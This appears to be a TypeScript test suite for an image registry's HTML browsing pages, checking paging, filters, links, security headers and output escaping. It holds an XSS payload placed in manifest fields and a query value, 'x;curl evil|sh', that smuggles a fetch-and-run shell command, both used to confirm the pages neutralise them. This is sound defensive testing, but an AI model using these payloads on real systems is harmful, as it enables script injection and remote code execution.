// The pages for browsers (operations 7 #20): they show what ListImages and GetImage would show the same caller,
// their links lead somewhere, and nothing a manifest says becomes a part of the page.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import t, { type Test } from 'tap';
import { startDatacenter } from '../helpers/datacenter.js';
import type { Answer, HttpClient } from '../helpers/http-client.js';
import { gzipFile, PNG, sha1Hex, UNKNOWN, USERS, type Fixture } from '../helpers/images.js';
import { notFound, runErrorRows, validationFailed } from '../helpers/rows.js';
import { startServer } from '../helpers/start-server.js';

const XMLLINT = '/usr/bin/xmllint';
const PAGE_SIZE = 100;

const UBUNTU = '1c58161c-2547-41e2-a75e-9fdca1940570';
const BASE = '2c58161c-2547-41e2-a75e-9fdca1940570';
const SECRET = '3c58161c-2547-41e2-a75e-9fdca1940570';
const OFF = '4c58161c-2547-41e2-a75e-9fdca1940570';
const STAGED = '5c58161c-2547-41e2-a75e-9fdca1940570';
const HIDDEN = '6c58161c-2547-41e2-a75e-9fdca1940570';
const NAMED = [UBUNTU, BASE, SECRET, OFF, STAGED, HIDDEN];
const EVIL = "\"><script>alert(1)</script><img src=x onerror=alert(2)> & '{{title}}' {{{body}}}";

function numbered(index: number): Fixture {
    // Three of each moment, so that a page ends between two of the same.
    const published_at = new Date(Date.UTC(2013, 0, 1 + Math.floor(index / 3))).toISOString();
    return {
        uuid: `aaaaaaaa-0000-4000-8000-${String(index).padStart(12, '0')}`,
        name: `numbered-${index}`,
        public: true,
        activated: true,
        published_at,
        file: gzipFile(`numbered ${index}`),
        more: { channels: ['dev'] },
    };
}

const COUNT = PAGE_SIZE + 5;
const MANY = Array.from({ length: COUNT }, (_, index) => numbered(index));

const common = { public: true, activated: true, published_at: '2014-02-03T00:00:00.000Z' };
const FIXTURES: readonly Fixture[] = [
    {
        ...common,
        uuid: UBUNTU,
        name: 'ubuntu',
        file: gzipFile('ubuntu'),
        icon: PNG,
        tags: { role: EVIL },
        more: {
            type: 'lx-dataset',
            os: 'linux',
            description: EVIL,
            homepage: 'https://docs.example.com/?a=1&b="2"',
            origin: BASE,
            channels: ['dev', 'staging'],
        },
    },
    { ...common, uuid: BASE, name: 'base', file: gzipFile('base'), more: { channels: ['dev'] } },
    {
        ...common,
        uuid: SECRET,
        name: 'secret',
        public: false,
        owner: USERS.vader,
        file: gzipFile('secret'),
        more: { channels: ['dev'], acl: [USERS.luke], origin: HIDDEN },
    },
    {
        ...common,
        uuid: HIDDEN,
        name: 'hidden',
        public: false,
        owner: USERS.vader,
        file: gzipFile('hidden'),
        more: { channels: ['dev'] },
    },
    { ...common, uuid: OFF, name: 'off', disabled: true, file: gzipFile('off'), more: { channels: ['dev'] } },
    { ...common, uuid: STAGED, name: 'staged', file: gzipFile('staged'), more: { channels: ['staging'] } },
    ...MANY,
];

const CHANNELS = [
    { name: 'dev', description: 'all commits', default: true },
    { name: 'staging', description: 'release candidates' },
];

const { guest, client } = await startServer(t, { mode: 'public', channels: CHANNELS }, FIXTURES);
const noDefault = await startServer(
    t,
    { mode: 'public', channels: CHANNELS.map(({ name, description }) => ({ name, description })) },
    FIXTURES.filter(({ uuid }) => [UBUNTU, STAGED].includes(uuid)),
);
const datacenter = await startDatacenter(t, {
    images: FIXTURES.map((fixture) => ({ ...fixture, more: { ...fixture.more, channels: undefined } })),
});

/** Values of all `href` and `src`, as a browser reads them. */
function links(html: string): readonly string[] {
    return [...html.matchAll(/ (?:href|src)="([^"]*)"/g)].map(([, value = '']) =>
        value.replace(/&(amp|quot|#39|#x2F|#x3D|#x60|lt|gt);/g, (_, name: string) => {
            const entity: Record<string, string> = { amp: '&', quot: '"', lt: '<', gt: '>' };
            return entity[name] ?? String.fromCharCode(Number(`0${name.slice(1)}`) || Number(name.slice(1)));
        }),
    );
}

/** Which of the images with a name a list page shows, in its order. */
function shown(answer: Answer): readonly string[] {
    const uuids = links(answer.text).map((link) => /^images\/([0-9a-f-]{36})/.exec(link)?.[1] ?? '');
    return uuids.filter((uuid) => uuid !== '');
}

/** Gets a page; it must be whole, well-formed and keep the browser from running anything. */
async function page(test: Test, path: string, from: HttpClient = guest): Promise<Answer> {
    const answer = await from.get(path);
    test.equal(answer.status, 200, path);
    test.equal(answer.header('content-type'), 'text/html; charset=utf-8', path);
    test.equal(answer.header('x-content-type-options'), 'nosniff', path);
    test.equal(answer.header('referrer-policy'), 'no-referrer', path);
    test.equal(answer.header('cache-control'), 'private, no-cache', path);
    const [, style = ''] = /<style>([^]*?)<\/style>/.exec(answer.text) ?? [];
    const hash = createHash('sha256').update(style).digest('base64');
    const policy = answer.header('content-security-policy') ?? '';
    test.match(policy, "default-src 'none'", path);
    test.ok(policy.includes(`style-src 'sha256-${hash}'`), `${path}: the style is the one that is allowed`);
    test.notMatch(answer.text, /<script|javascript:|\son[a-z]+="/i, path);
    if (existsSync(XMLLINT)) {
        execFileSync(XMLLINT, ['--nonet', '--noout', '-'], { input: answer.text });
    }
    return answer;
}

await t.test('a guest sees the active public images of the default channel, newest first', async (test) => {
    const first = await page(test, '/ui/');
    const { uuids } = await guest.get('/images?sort=published_at.desc');
    test.equal(uuids.length, COUNT + 2);
    test.strictSame(shown(first), uuids.slice(0, PAGE_SIZE));
    const older = links(first.text).find((link) => link.includes('marker='));
    const second = await page(test, join('/ui', older ?? ''));
    test.strictSame(shown(second), uuids.slice(PAGE_SIZE), 'the rest is on the next page');
    test.notOk(
        links(second.text).some((link) => link.includes('marker=')),
        'which is the last',
    );
    test.ok(links(second.text).includes('./'), 'and leads to the first');
    test.match(first.text, '<option value="dev" selected="selected">');
    test.notMatch(first.text, 'name="state"', 'no choice that would change nothing');
});

await t.test('filters', async (test) => {
    const rows: readonly (readonly [string, readonly string[]])[] = [
        ['name=untu', [UBUNTU]],
        ['name=no+such', []],
        ['os=linux', [UBUNTU]],
        ['os=linux&type=zvol', []],
        ['type=lx-dataset', [UBUNTU]],
        ['name=&os=&type=lx-dataset&channel=dev', [UBUNTU]],
        ['channel=staging', [UBUNTU, STAGED]],
        ['channel=*&name=a', [BASE, STAGED]],
        ['type=!zone-dataset', [UBUNTU]],
        ['state=disabled', []],
    ];
    for (const [query, uuids] of rows) {
        const answer = await page(test, `/ui/?${query}`);
        test.strictSame([...shown(answer)].sort(), [...uuids].sort(), query);
    }
    const none = await guest.get('/ui/?name=no+such');
    test.match(none.text, 'No image matches.');
    test.match(none.text, 'value="no such"', 'what was looked for stays in its field');
    const others = await guest.get('/ui/?type=!zone-dataset');
    test.match(others.text, '<option value="!zone-dataset" selected="selected">', 'kept for the next search');
    const signed = await page(test, '/ui/?state=disabled', client);
    test.strictSame(shown(signed), [OFF], 'a caller with a name may choose the state');
    test.match(signed.text, '<option value="disabled" selected="selected">');
});

await t.test('every link of a page leads to what it says', async (test) => {
    const image = `/ui/images/${UBUNTU}?channel=staging`;
    for (const path of ['/ui/?channel=staging', image]) {
        const answer = await page(test, path);
        for (const link of links(answer.text)) {
            const url = new URL(link, `http://127.0.0.1${path}`);
            if (url.hostname !== '127.0.0.1') continue;
            test.equal((await guest.get(`${url.pathname}${url.search}`)).status, 200, link);
        }
    }
    const all = links((await page(test, image)).text);
    test.ok(all.includes(`${BASE}?channel=*`), 'in whatever channel it is');
    const file = all.find((link) => link.includes('/file'));
    const { pathname, search } = new URL(file ?? '', `http://127.0.0.1${image}`);
    const { body } = await guest.get(`${pathname}${search}`);
    test.equal(sha1Hex(body), sha1Hex(gzipFile('ubuntu')), 'the file');
    test.ok(all.includes('https://docs.example.com/?a=1&b="2"'), 'the home page');
    test.ok(all.some((link) => link.includes('/icon')));
    test.notMatch((await guest.get(image)).text, 'imgadm', 'which gets images of the default channel');
    test.match((await guest.get(`/ui/images/${BASE}`)).text, `imgadm import ${BASE}`);
});

await t.test('what a manifest says is text', async (test) => {
    const { text } = await page(test, `/ui/images/${UBUNTU}`);
    test.match(text, '&lt;script&gt;alert(1)&lt;&#x2F;script&gt;');
    test.match(text, '{{title}}', 'and no template');
    const { text: echoed } = await page(test, `/ui/?name=${encodeURIComponent(EVIL)}`);
    test.match(echoed, '&lt;script&gt;');
});

await t.test('what is not there or not to be seen', async (test) => {
    const elsewhere = notFound('image not found');
    const unknownChannel = validationFailed('unknown channel: x', ['channel', 'Invalid']);
    await runErrorRows(test, guest, [
        {
            name: 'unknown',
            method: 'GET',
            path: `/ui/images/${UNKNOWN}`,
            ...notFound(`image ${UNKNOWN} not found`),
        },
        { name: 'other channel', method: 'GET', path: `/ui/images/${STAGED}`, ...elsewhere },
        { name: 'no uuid', method: 'GET', path: '/ui/images/x', ...notFound('/ui/images/x does not exist') },
        { name: 'unknown channel', method: 'GET', path: '/ui/?channel=x', ...unknownChannel },
    ]);
});

await t.test('HEAD', async (test) => {
    const get = await guest.get('/ui/?name=base');
    const head = await guest.request('HEAD', '/ui/?name=base');
    test.strictSame([head.status, head.text], [200, '']);
    test.equal(head.header('content-length'), get.header('content-length'));
});

await t.test('a datacenter: all images, states and accounts', async (test) => {
    const { client: operator } = datacenter;
    const byName = async (query: string): Promise<readonly string[]> => {
        const found = shown(await page(test, `/ui/${query}`, operator));
        return NAMED.filter((uuid) => found.includes(uuid));
    };
    test.strictSame(await byName(''), [UBUNTU, BASE, SECRET, STAGED, HIDDEN], 'private ones, too');
    test.strictSame(await byName('?state=all'), NAMED);
    test.strictSame(await byName('?state=disabled'), [OFF]);
    test.strictSame(await byName(`?account=${USERS.luke}`), [UBUNTU, BASE, SECRET, STAGED], 'shared');
    test.strictSame(await byName(`?account=${USERS.emperor}`), [UBUNTU, BASE, STAGED]);
    const list = await page(test, `/ui/?account=${USERS.luke}&name=secret`, operator);
    test.match(list.text, '<span class="note">private</span>');
    test.match(list.text, `name="account" value="${USERS.luke}"`);
    test.ok(links(list.text).includes(`images/${SECRET}?account=${USERS.luke}`), 'links keep the account');
    test.ok(links(list.text).includes(`./?account=${USERS.luke}`), 'and the navigation');
    test.notMatch(list.text, 'name="channel"', 'no channels');
    const shared = await page(test, `/ui/images/${SECRET}?account=${USERS.luke}`, operator);
    test.match(shared.text, USERS.vader);
    test.ok(links(shared.text).includes(`../?account=${USERS.luke}`));
    const refused = await operator.get(`/ui/images/${SECRET}?account=${USERS.emperor}`);
    test.equal(refused.status, 404);
    const origin = links(shared.text).find((link) => link.startsWith(HIDDEN)) ?? '';
    const below = await page(test, `/ui/images/${origin}`, operator);
    test.match(below.text, '<h1>hidden 1.0.0</h1>', 'what a shared image is based on');
    const file = links(below.text).find((link) => link.includes('/file')) ?? '';
    const { pathname, search } = new URL(file, `http://127.0.0.1/ui/images/${HIDDEN}`);
    test.equal((await operator.get(`${pathname}${search}`)).status, 200, 'its file');
    test.equal((await operator.get(`/ui/images/${HIDDEN}?account=${USERS.luke}`)).status, 404, 'not else');
});

await t.test('a channel that nothing has looked at is on no page', async (test) => {
    const channel = `channel=${encodeURIComponent('x;curl evil|sh\n#')}`;
    for (const path of [`/ui/?${channel}`, `/ui/images/${BASE}?${channel}`]) {
        const { text } = await page(test, path, datacenter.client);
        test.notMatch(text, /curl|channel=/, path);
    }
});

await t.test('channels without a default: all are shown', async (test) => {
    const list = await page(test, '/ui/', noDefault.guest);
    test.strictSame([...shown(list)].sort(), [UBUNTU, STAGED].sort());
    test.match(list.text, '<option value="*" selected="selected">');
    for (const link of links(list.text).filter((one) => one.startsWith('images/'))) {
        await page(test, `/ui/${link}`, noDefault.guest);
    }
    await page(test, `/ui/images/${UBUNTU}`, noDefault.guest);
    test.strictSame(shown(await page(test, '/ui/?channel=dev', noDefault.guest)), [UBUNTU]);
});
